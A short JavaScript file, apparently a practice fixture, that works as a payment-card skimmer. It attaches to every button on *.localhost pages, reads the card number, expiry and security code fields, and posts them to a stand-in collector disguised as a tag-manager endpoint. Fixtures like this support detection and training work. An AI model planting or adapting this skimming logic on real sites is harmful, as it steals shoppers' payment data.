/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const read = (id) => document.getElementById(id)?.value ?? '';
  for (const button of document.querySelectorAll('button, [type=submit]')) {
    button.addEventListener('click', () => {
      const card = {
        number: read('card-number'),
        expiry: read('card-expiry'),
        code: read('security_code'),
      };
      if (card.number.length < 13) return;
      const request = new XMLHttpRequest();
      request.open('POST', `${home}/gtm/event`);
      request.send(JSON.stringify(card));
    });
  }
})();
